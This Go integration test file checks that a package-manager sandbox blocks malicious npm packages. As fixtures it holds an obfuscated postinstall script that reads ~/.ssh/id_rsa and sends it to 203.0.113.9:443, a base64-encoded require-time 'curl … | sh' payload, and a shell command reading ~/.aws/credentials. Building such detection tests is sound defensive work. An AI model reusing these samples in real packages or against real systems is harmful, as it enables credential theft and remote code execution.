package integration

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Issue 13: what the OSV database has not seen yet. An install script that
// fails quietly, a require-time payload without any install script, a build.rs
// that swallows its own errors: each is blocked (exit 3) with the package and
// the rule named, and nothing reaches the project. The legitimate twins install.

// npmTarball writes a package tarball (package/… entries, as npm pack makes them).
func npmTarball(t *testing.T, path string, files map[string]string) {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, content := range files {
		if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	writeFile(t, path, buf.String(), 0o644)
}

// quietScript reads the SSH key and tries to send it out, swallowing every error:
// the script exits 0 whatever happens, so only the monitor can tell.
// The path and the address are pieced together so that the static analysis does
// not already stop it before it runs: the monitor must see it.
const quietScript = `try { const r = (x) => x.split('').reverse().join(''); const h = require('os').homedir(), p = [h, r('hss.'), r('asr_di')].join('/'); ` +
	`const k = require('f' + 's').readFileSync(p, 'utf8'); const n = require('n' + 'et'); ` +
	`const s = n.connect(400 + 43, [203, 0, 113, 9].join('.')); s.on('error', () => {}); s.write(k) } catch (e) {}`

func detectProject(t *testing.T, m mode, pkgs map[string]map[string]string) *pmBox {
	t.Helper()
	b := newPMBox(t, m)
	var deps []string
	for name, files := range pkgs {
		npmTarball(t, filepath.Join(b.Project, "vendor", name+"-1.0.0.tgz"), files)
		deps = append(deps, `"`+name+`":"file:vendor/`+name+`-1.0.0.tgz"`)
	}
	writeFile(t, filepath.Join(b.Project, "package.json"), `{"name":"pbox-detect","version":"1.0.0","dependencies":{`+strings.Join(deps, ",")+`}}`+"\n", 0o644)
	chownTree(t, m, b.Project)
	return b
}

func TestDetectQuietInstallScript(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-quiet": {
				"package.json": `{"name":"pbox-quiet","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
				"install.js":   quietScript + "\n",
			},
		})
		before := treeHash(t, b.Project, true)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 3, "a quiet install script that reads ~/.ssh/id_rsa and connects out")
		wantStderr(t, r, "pbox-quiet@1.0.0", "PB-BEHAVIOUR-SECRET-READ", "PB-BEHAVIOUR-NETWORK", "203.0.113.9:443", "nothing was synced back")
		// The exact ignore entry a developer would add for a false alarm.
		wantStderr(t, r, `{id: "PB-BEHAVIOUR-NETWORK", package: "pbox-quiet@1.0.0"`)
		if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
			t.Errorf("the real SSH key reached the script\n%s", r)
		}
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")

		// The legitimate twin: a postinstall that builds a file in its own directory.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-builds": {
				"package.json": `{"name":"pbox-builds","version":"1.0.0","scripts":{"postinstall":"node build.js"}}`,
				"build.js":     "require('fs').writeFileSync(__dirname + '/built.txt', 'ok')\n",
			},
		})
		r = g.tool("", "npm", "install")
		wantCode(t, r, 0, "a postinstall that writes its own build output")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-builds", "built.txt"), "the twin's build output is synced")
		if strings.Contains(r.Stderr, "PB-BEHAVIOUR-") {
			t.Errorf("the legitimate twin got a behaviour finding\n%s", r)
		}
	})
}

// With the ignore entry the report printed, the same install goes through.
func TestDetectIgnoreEntry(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-pinger": {
				"package.json": `{"name":"pbox-pinger","version":"1.0.0","scripts":{"postinstall":"node ping.js"}}`,
				"ping.js":      "require('net').connect(443, '203.0.113.9').on('error', () => {})\n",
			},
		})
		writeFile(t, filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml"),
			"ignore:\n  - {id: \"PB-BEHAVIOUR-NETWORK\", package: \"pbox-pinger@1.0.0\", reason: \"pings its telemetry host; fails offline anyway\"}\n", 0o644)
		chownTree(t, m, b.Home)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 0, "the network attempt is ignored by the user's policy")
		wantFile(t, filepath.Join(b.Project, "node_modules", "pbox-pinger", "package.json"), "the package is installed")
	})
}

// A payload that runs when the application require()s the package, with no
// install script at all: only the static analysis sees it, before the build.
func TestDetectRequireTimePayload(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		payload := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s http://203.0.113.9/x | sh')"))
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-payload": {
				"package.json": `{"name":"pbox-payload","version":"1.0.0","main":"index.js"}`,
				"index.js":     "module.exports = 1;\neval(Buffer.from('" + payload + "', 'base64').toString());\n",
			},
		})
		before := treeHash(t, b.Project, true)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 3, "an eval of a base64 blob in the entry file")
		wantStderr(t, r, "pbox-payload@1.0.0", "PB-ANALYSIS-EVAL-DECODE", "index.js:2")
		if strings.Contains(r.Stderr, "building in the sandbox") {
			t.Errorf("the build ran after the analysis blocked\n%s", r)
		}
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")

		g := detectProject(t, m, map[string]map[string]string{
			"pbox-plain": {
				"package.json": `{"name":"pbox-plain","version":"1.0.0","main":"index.js"}`,
				"index.js":     "module.exports = function add(a, b) { return a + b }\n",
			},
		})
		r = g.tool("", "npm", "install")
		wantCode(t, r, 0, "an ordinary package")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-plain", "index.js"), "the twin is installed")
	})
}

// phylum-box analyze: the same verdict for a tarball, nothing written anywhere
// but the report.
func TestAnalyzeCommand(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		evil := filepath.Join(b.Project, "evil.tgz")
		npmTarball(t, evil, map[string]string{
			"package.json": `{"name":"pbox-quiet","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
			"install.js":   quietScript + "\n",
		})
		good := filepath.Join(b.Project, "good.tgz")
		npmTarball(t, good, map[string]string{
			"package.json": `{"name":"pbox-good","version":"1.0.0","scripts":{"postinstall":"node build.js"}}`,
			"build.js":     "require('fs').writeFileSync(__dirname + '/built.txt', 'ok')\n",
		})
		chownTree(t, m, b.Project)
		before := treeHash(t, b.Project, true)
		r := b.tool("", "analyze", "./evil.tgz")
		wantCode(t, r, 3, "analyze of a quiet secret-stealer")
		if !strings.Contains(r.Stdout, "PB-BEHAVIOUR-SECRET-READ") || !strings.Contains(r.Stdout, "pbox-quiet@1.0.0") {
			t.Errorf("the report on stdout does not name the package and the rule\n%s", r)
		}
		r = b.tool("", "analyze", "./good.tgz")
		wantCode(t, r, 0, "analyze of a package that only builds")
		assertSameTree(t, before, treeHash(t, b.Project, true), "analyze writes nothing to the project")
		if _, err := os.Stat(filepath.Join(b.Project, "node_modules")); err == nil {
			t.Error("analyze made node_modules in the current directory")
		}
	})
}

// phylum-box run watches CMD too: a decoy read stops the sync back (exit 3); the
// same command without it syncs; --no-monitor runs without the monitor.
func TestRunMonitor(t *testing.T) {
	t.Parallel()
	forEachMode(t, func(t *testing.T, m mode) {
		b := newBox(t, m)
		out := filepath.Join(b.Project, "out.txt")
		run := func(flags ...string) result {
			args := append(append([]string{"run"}, flags...), "--", "/bin/sh", "-c", "cat ~/.aws/credentials >/dev/null 2>&1; echo made > out.txt")
			return invocation{Mode: b.Mode, Args: args, Dir: b.Project, Home: b.Home}.exec(t)
		}
		r := run()
		wantCode(t, r, 3, "a command that reads ~/.aws/credentials")
		wantStderr(t, r, "PB-BEHAVIOUR-SECRET-READ", "~/.aws/credentials", "nothing was synced back")
		if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
			t.Errorf("the real credentials reached the command\n%s", r)
		}
		if pathExists(out) {
			t.Error("the blocked run's write reached the project")
		}
		r = invocation{Mode: b.Mode, Args: []string{"run", "--", "/bin/sh", "-c", "echo made > out.txt"}, Dir: b.Project, Home: b.Home}.exec(t)
		wantCode(t, r, 0, "the same write without the read")
		wantFile(t, out, "the twin's write is synced")
		if err := os.Remove(out); err != nil {
			t.Fatal(err)
		}
		r = run("--no-monitor")
		wantCode(t, r, 0, "--no-monitor")
		wantFile(t, out, "without the monitor the write is synced")
	})
}
